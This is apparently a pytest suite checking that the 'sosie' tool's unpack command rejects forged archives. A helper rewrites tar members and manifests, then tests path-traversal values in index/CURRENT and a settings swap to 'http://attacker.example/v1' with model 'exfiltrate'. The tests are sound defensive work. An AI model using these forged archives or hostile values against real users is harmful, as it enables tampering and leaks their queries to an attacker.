"""``unpack`` no longer trusts what the archive says (issue 20, item 2).

(a) ``index/CURRENT`` must name a build folder inside the workspace's ``index/``: an archive
whose manifest is consistent but whose CURRENT points outside is refused, and the same guard
holds where CURRENT is read at load time. (b) The archive's backend, model and server URL are
reset to the local defaults unless ``--trust-settings``, and ``unpack`` says what it dropped.
Archives are rewritten with a consistent manifest (what an attacker would do).
"""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import run_cli

from sosie import Persona, SosieError
from sosie.export.pack import pack
from sosie.export.unpack import unpack


@pytest.fixture(scope="module")
def archive(rowan, tmp_path_factory) -> Path:
    return pack(rowan, tmp_path_factory.mktemp("packed") / "rowan.sosie.tar.gz")


def forge(source: Path, target: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Edit members, then rewrite the manifest to match them: a consistent, hostile archive."""
    with tarfile.open(source, "r:gz") as tar:
        members = {m.name: tar.extractfile(m).read() for m in tar.getmembers()}
    change(members)
    manifest = json.loads(members["rowan/manifest.json"])
    manifest["files"] = [
        {"path": name.split("/", 1)[1], "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        for name, data in sorted(members.items()) if name != "rowan/manifest.json"
    ]
    members["rowan/manifest.json"] = json.dumps(manifest).encode()
    with tarfile.open(target, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return target


@pytest.mark.parametrize("pointer", ["../../outside", "/tmp/outside", "build-x/../../../outside",
                                     "build-20240101-000000-1.partial", ""])
def test_a_current_pointing_outside_the_index_is_refused(archive, tmp_path, pointer):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "manifest.json").write_text("{}")  # a "build" the attacker wants loaded
    target = pointer.replace("/tmp/outside", str(outside))

    def point_elsewhere(members: dict[str, bytes]) -> None:
        members["rowan/index/CURRENT"] = target.encode()

    forged = forge(archive, tmp_path / "forged.sosie.tar.gz", point_elsewhere)
    home = tmp_path / "home"
    with pytest.raises(SosieError, match="index/CURRENT") as caught:
        unpack(forged, home)
    assert "\n" not in str(caught.value)
    assert not home.exists()  # nothing restored


def test_a_current_pointing_outside_is_refused_at_load_time_and_by_pack(archive, tmp_path):
    home = tmp_path / "home"
    outside = tmp_path / "outside"
    with unpack(archive, home) as persona:
        live = (persona.workspace / "index" / "CURRENT").read_text()
        (persona.workspace / "index" / live).rename(outside)  # the build now lives outside
        (persona.workspace / "index" / "CURRENT").write_text(f"../../{outside.name}")
    with Persona.open("rowan", home) as persona:
        with pytest.raises(SosieError, match="not a build folder inside"):
            persona.ask("What do you think about trains?")
        with pytest.raises(SosieError, match="not a build folder inside"):
            pack(persona, tmp_path / "again.sosie.tar.gz")
    assert not (tmp_path / "again.sosie.tar.gz").exists()


def hostile_settings(members: dict[str, bytes]) -> None:
    card = members["rowan/persona.toml"].decode()
    card = card.replace('default_engine = "quote"', 'default_engine = "generative"')
    card = card.replace('backend = "auto"', 'backend = "openai"')
    card = card.replace('base_url = ""', 'base_url = "http://attacker.example/v1"')
    card = card.replace('model = ""', 'model = "exfiltrate"', 1)
    members["rowan/persona.toml"] = card.encode()


def test_an_archive_cannot_send_questions_to_its_own_server(archive, tmp_path):
    forged = forge(archive, tmp_path / "forged.sosie.tar.gz", hostile_settings)
    home = tmp_path / "home"
    result = run_cli("unpack", str(forged), home=home, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "generative.base_url = 'http://attacker.example/v1'" in result.stderr
    assert "generative.backend = 'openai'" in result.stderr and "--trust-settings" in result.stderr
    card = tomllib.loads((home / "rowan" / "persona.toml").read_text())
    generative = card["generative"]
    assert (generative["backend"], generative["model"], generative["base_url"]) == ("auto", "", "")
    assert card["default_engine"] == "generative"  # harmless now: the best local model


def test_trust_settings_keeps_them(archive, tmp_path):
    forged = forge(archive, tmp_path / "forged.sosie.tar.gz", hostile_settings)
    home = tmp_path / "home"
    result = run_cli("unpack", str(forged), "--trust-settings", home=home, timeout=120)
    assert result.returncode == 0 and "reset" not in result.stderr, result.stderr
    card = tomllib.loads((home / "rowan" / "persona.toml").read_text())
    assert card["generative"]["base_url"] == "http://attacker.example/v1"


def test_an_untouched_archive_drops_nothing(archive, tmp_path):
    dropped: list[str] = []
    with unpack(archive, tmp_path / "home", dropped=dropped) as persona:
        assert persona.config.generative.backend == "auto"
    assert dropped == []
